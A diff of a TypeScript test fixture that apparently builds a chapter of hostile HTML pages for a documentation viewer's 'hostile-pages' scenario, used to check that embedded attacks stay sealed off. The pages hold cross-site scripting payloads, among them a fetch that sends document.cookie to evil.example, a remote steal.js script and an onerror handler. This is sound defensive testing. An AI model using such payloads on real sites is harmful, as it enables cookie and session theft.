@@ -1,5 +1,9 @@
-/** The hostile pages of the guide, in order. */
-export const hostileNames = [
+import type { RowOf } from '../operation-types'
+
+type Item = RowOf<'documentations'>
+
+/** The kinds of attack, one page each, in the order of the tree. */
+const hostileNames = [
   'scripts',
   'handlers',
   'addresses',
@@ -17,7 +21,7 @@ const safe = '<p>This paragraph must be readable, whatever stands around it.</p>
  * Attacks that a page may contain, one kind per page. Each sets `stolen`, asks `evil.example` for something, leaves the
  * frame or covers the portal when it gets through; none of it may be seen from outside.
  */
-export const hostilePages: Readonly<Record<(typeof hostileNames)[number], string>> = {
+const hostilePages: Readonly<Record<(typeof hostileNames)[number], string>> = {
   scripts: `${safe}
 <script>parent.document.title = 'stolen'; fetch('https://evil.example/' + document.cookie)</script>
 <script src="https://evil.example/steal.js"></script>
@@ -79,4 +83,49 @@ export const hostilePages: Readonly<Record<(typeof hostileNames)[number], string
 <p title="an attribute without an end><b>x</b><!-- a comment without an end --!> &unknown; &#0; &#xD800; \u202Ereversed\u202C
 <img src=1 onerror=top.stolen=1 alt=A
 <p>The last line</p`,
+}
+
+const version = { line: 'helyx', version: '4.3' } as const
+const chapter = 'imported'
+const idOf = (name: string) => `doc_imported_${name.replaceAll('-', '_')}`
+const titleOf = (name: string) => `Imported page: ${name.replaceAll('-', ' ')}`
+
+const itemOf = (path: string, title: string, more: Pick<Item, 'id' | 'parent_id' | 'position'>): Item => ({
+  ...version,
+  ...more,
+  path,
+  previous_paths: [],
+  title,
+  kind: 'reference',
+  format: 'html',
+  headings: [],
+  search_text: '',
+  bucket: 'corvane-documentation',
+  key: `${version.line}/${version.version}/${path}.html`,
+  size_bytes: 4096,
+  hidden: false,
+  sync_status: 'ok',
+  sync_error: null,
+  synced_at: '2026-11-18T04:00:00Z',
+  updated_at: '2026-06-02T07:00:00Z',
+})
+
+/** The page of the contract's example, before those of single attacks. */
+const specified = 'as-specified'
+
+/** A chapter of hostile pages in HELYX 4.3. Only the scenario `hostile-pages` adds it: it is no part of the manual. */
+export function hostileItems(): readonly Item[] {
+  const root = itemOf(chapter, 'Imported pages', { id: idOf('pages'), parent_id: null, position: 90 })
+  const pages = [specified, ...hostileNames].map((name, position) =>
+    itemOf(`${chapter}/${name}`, titleOf(name), { id: idOf(name), parent_id: root.id, position }),
+  )
+  return [root, ...pages]
+}
+
+/** The HTML of a page of `hostileItems`, undefined for any other; `example` is the contract's hostile page. */
+export function hostileHtml({ id, title }: Item, example: string): string | undefined {
+  if (id === idOf('pages')) return `<!doctype html><title>${title}</title><h1>${title}</h1>${safe}`
+  if (id === idOf(specified)) return example
+  const name = hostileNames.find((one) => idOf(one) === id)
+  return name && `<!doctype html><title>${title}</title><h1>${title}</h1>${hostilePages[name]}`
 }
